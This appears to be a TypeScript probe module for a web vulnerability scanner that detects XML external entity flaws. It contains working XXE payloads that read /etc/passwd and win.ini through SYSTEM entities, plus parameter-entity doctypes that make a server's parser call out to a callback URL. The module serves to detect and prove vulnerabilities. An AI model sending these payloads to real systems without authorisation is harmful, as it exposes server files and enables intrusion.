import type { PluginContext } from "@picket/plugin-sdk";
import {
  type Answer,
  ask,
  bodyProof,
  type CallbackContext,
  type CallbackWay,
  createMarker,
  fileContentOffset,
  heldControl,
  type KnownFile,
  type Proof,
} from "@picket/plugin-sdk/probe";
import type { XmlPlace } from "./places.ts";

type Context = CallbackContext & Pick<PluginContext, "http">;

async function answerTo(
  place: XmlPlace,
  { http }: Pick<Context, "http">,
  doctype: string,
  text: string,
): Promise<Answer | null> {
  // What leaks once need not lie around twice.
  return ask(() => http.request({ ...place.request(doctype, text), storage: "none" }), "");
}

/** `text` as a document that defines nothing. */
function plainAnswer(place: XmlPlace, context: Context, text: string): Promise<Answer | null> {
  return answerTo(place, context, "", text);
}

/** An entity of two halves, one of them an entity itself: the whole word stands nowhere in what is sent. */
async function expansion(place: XmlPlace, context: Context, replay: number): Promise<Proof | null> {
  const [first, second] = [createMarker(), createMarker()];
  const doctype = `<!DOCTYPE root [<!ENTITY a "${first}"><!ENTITY e "&a;${second}">]>`;
  const answer = await answerTo(place, context, doctype, "&e;");
  const at = answer?.text.indexOf(first + second) ?? -1;
  return answer && at >= 0 ? bodyProof("content_proof", answer, at, { sent: doctype, replay }) : null;
}

/** Proves that the document's own entities are expanded and shown. One request where they are not, three else. */
export async function byExpansion(place: XmlPlace, context: Context): Promise<Proof[] | null> {
  const first = await expansion(place, context, 0);
  const again = first && (await expansion(place, context, 1));
  const [one, two] = [createMarker(), createMarker()];
  const control = again && (await plainAnswer(place, context, `${one} ${two}`));
  if (!first || !again || !control || control.text.includes(one + two)) return null;
  return [
    first,
    again,
    heldControl(control, "two words that no entity joins come back as two", { sent: `${one} ${two}` }),
  ];
}

const FILES: readonly (readonly [KnownFile, string])[] = [
  ["passwd", "file:///etc/passwd"],
  ["win.ini", "file:///c:/windows/win.ini"],
];

async function fileProof(
  place: XmlPlace,
  context: Context,
  [file, address]: (typeof FILES)[number],
  replay: number,
): Promise<Proof | null> {
  const doctype = `<!DOCTYPE root [<!ENTITY e SYSTEM "${address}">]>`;
  const answer = await answerTo(place, context, doctype, "&e;");
  const at = answer ? fileContentOffset(file, answer.text) : -1;
  return answer && at >= 0 ? bodyProof("content_proof", answer, at, { sent: doctype, file, replay }) : null;
}

/** Proves that a file of the system is loaded and shown: two requests where it is not, three else. */
export async function byFile(place: XmlPlace, context: Context): Promise<Proof[] | null> {
  for (const file of FILES) {
    const first = await fileProof(place, context, file, 0);
    const again = first && (await fileProof(place, context, file, 1));
    const control = again && (await plainAnswer(place, context, createMarker()));
    if (!first || !again || !control || fileContentOffset(file[0], control.text) >= 0) continue;
    return [first, again, heldControl(control, "a document without entities shows no such file", {})];
  }
  return null;
}

const DOCTYPES = {
  /** Loaded where it is referred to, and its content shown where that is. */
  general: (address: string) => `<!DOCTYPE root [<!ENTITY e SYSTEM "${address}">]>`,
  /** Loaded with the DTD, where nothing is referred to or shown. */
  parameter: (address: string) => `<!DOCTYPE root [<!ENTITY % p SYSTEM "${address}"> %p;]>`,
} as const;

/** The ways to have the parser ask for an address; beside them it stands in a comment, which no parser follows. */
export function callbackWays(place: XmlPlace, context: Context): CallbackWay[] {
  const inert = async (address: string) => {
    const text = `<!-- ${address} -->${createMarker()}`;
    return { sent: text, answer: await plainAnswer(place, context, text) };
  };
  return (["general", "parameter"] as const).map((kind) => ({
    async send({ httpUrl }) {
      const sent = DOCTYPES[kind](httpUrl);
      return {
        sent,
        answer: await answerTo(place, context, sent, kind === "general" ? "&e;" : createMarker()),
      };
    },
    sendInert: ({ httpUrl }) => inert(httpUrl),
  }));
}
